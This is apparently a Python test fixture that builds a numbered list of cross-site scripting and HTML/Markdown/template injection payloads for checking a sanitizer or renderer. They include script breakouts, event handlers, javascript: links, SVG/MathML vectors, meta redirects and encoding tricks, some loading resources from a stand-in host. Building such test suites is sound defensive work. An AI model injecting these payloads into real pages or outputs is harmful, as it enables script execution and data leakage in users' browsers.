"""A hundred texts that run, or lead outside, wherever one of them is taken for more than text.

In each, `RUN` is a script that says in the window that it ran, and `AWAY` an address elsewhere.
"""

RUN = "(window.ran=window.ran||[]).push({number})"
AWAY = "http://elders.invalid/{number}"

SCRIPTS = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src='AWAY.js'></script>",
    "<script type=module>RUN</script>",
    "<script>/*</p>*/RUN//</script >",
    "</script><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "</style><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "<<script>RUN//<</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script/x>RUN</script>",
    "\x00<script\x00>RUN</script>",
    "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><script>RUN</script>'>",
)
HANDLERS = (
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'>",
    "<IMG SRC=x OnErRoR=RUN>",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    "`><img src=x onerror=RUN>",
    '" onmouseover="RUN" autofocus onfocus="RUN" x="',
    "' onclick='RUN' tabindex=1 onfocus='RUN' autofocus '",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>a</option></select>",
    "<textarea autofocus onfocus=RUN>",
    "<video onloadstart=RUN><source src=x></video>",
    "<audio src=x onerror=RUN></audio>",
    "<details open ontoggle=RUN>open</details>",
    "<marquee onstart=RUN>loopt</marquee>",
    "<div style='animation:turn 1s' onanimationstart=RUN>draait</div>",
    "<a href=# onclick=RUN onpointerenter=RUN>klik</a>",
    "<p contenteditable autofocus onfocus=RUN>schrijf</p>",
    "<object data=x onerror=RUN></object>",
    "<iframe onload=RUN></iframe>",
    "<dialog open onclose=RUN>dialoog</dialog>",
)
PICTURES = (
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>klik</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=RUN>#x'/></svg>",
    "<svg><image href='AWAY.png'/></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext>",
    "<math href='javascript:RUN'>klik</math>",
    "<img src='AWAY.png'>",
    "<img srcset='AWAY.png 1x'>",
    "<picture><source srcset='AWAY.png'><img></picture>",
    "<video poster='AWAY.png' src='AWAY.mp4' autoplay></video>",
    "<input type=image src='AWAY.png'>",
    "<table background='AWAY.png'><tr><td>cel</td></tr></table>",
    "<link rel=stylesheet href='AWAY.css'>",
    "<link rel=prefetch href='AWAY'>",
    "<iframe src='AWAY'></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<embed src='AWAY.swf'>",
)
LINKS = (
    "<a href='javascript:RUN'>klik</a>",
    "<a href='jAvAsCrIpT:RUN'>klik</a>",
    "<a href='java&#10;script:RUN'>klik</a>",
    "<a href='&#x6a;avascript:RUN'>klik</a>",
    "<a href='data:text/html,<script>RUN</script>'>klik</a>",
    "<a href='AWAY' ping='AWAY'>klik</a>",
    "<a href='#bron-1-1' class=cite>1</a>",
    "<form action='AWAY'><input name=vraag><button>Verstuur</button></form>",
    "<form id=f></form><button form=f formaction='javascript:RUN'>klik</button>",
    "<base href='AWAY'>",
    "<meta http-equiv=refresh content='0;url=AWAY'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "javascript:RUN",
    "javascript://elders.invalid/%0aRUN",
    "data:text/html,<script>RUN</script>",
    "vbscript:RUN",
)
STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import 'AWAY.css';</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>weg</div>",
    "<p style='background:url(AWAY.png)'>tekst</p>",
    "<p id=announcement class=answer>Dit is geen antwoord</p>",
)
MARKUP = (
    "![beeld](AWAY.png)",
    "![beeld][b] [b]: AWAY.png",
    "[klik](javascript:RUN)",
    "[klik](<javascript:RUN>)",
    "[klik](AWAY 'titel')",
    "<AWAY>",
    "zie AWAY en www.elders.invalid",
    "iemand@elders.invalid",
    "```html <img src=x onerror=RUN> ```",
    '```mermaid graph TD; A-->B; click A "javascript:RUN" ```',
    '<pre class="mermaid">graph TD; A["<img src=x onerror=RUN>"]</pre>',
    "$$\\href{javascript:RUN}{klik}$$",
    "$$\\includegraphics{AWAY.png}$$",
    "\\(\\htmlData{x=RUN}{a}\\) \\[\\url{AWAY}\\]",
    "`<img src=x onerror=RUN>`",
    "| a | b | --- | <img src=x onerror=RUN> |",
    "# <img src=x onerror=RUN>",
    "> <img src=x onerror=RUN>",
)
TEMPLATES = (
    "${RUN}",
    "`${RUN}`",
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "{{{RUN}}}",
    "{{#each this}}{{lookup this 'constructor'}}{{/each}}",
    "{% raw %}{{RUN}}{% endraw %}",
    "<%= RUN %>",
    "#{RUN}",
    "{@html '<img src=x onerror=RUN>'}",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "&lt;img src=x onerror=RUN&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "%3Cimg%20src=x%20onerror=RUN%3E",
    "\u202e<img src=x onerror=RUN>\u202c en \u2066<script>RUN</script>\u2069",
    "\ufeff<img\x0bsrc=x\x0conerror=RUN>\u2028<script>RUN</script>",
    "＜script＞RUN＜/script＞",
    "');RUN;('",
    '");RUN;("',
    "\\';RUN;//",
    '{"__proto__": {"html": "<img src=x onerror=RUN>"}}',
)


def _filled(number: int, payload: str) -> str:
    return payload.replace("RUN", RUN.format(number=number)).replace(
        "AWAY", AWAY.format(number=number)
    )


PAYLOADS = tuple(
    _filled(number, payload)
    for number, payload in enumerate(
        (*SCRIPTS, *HANDLERS, *PICTURES, *LINKS, *STYLES, *MARKUP, *TEMPLATES)
    )
)
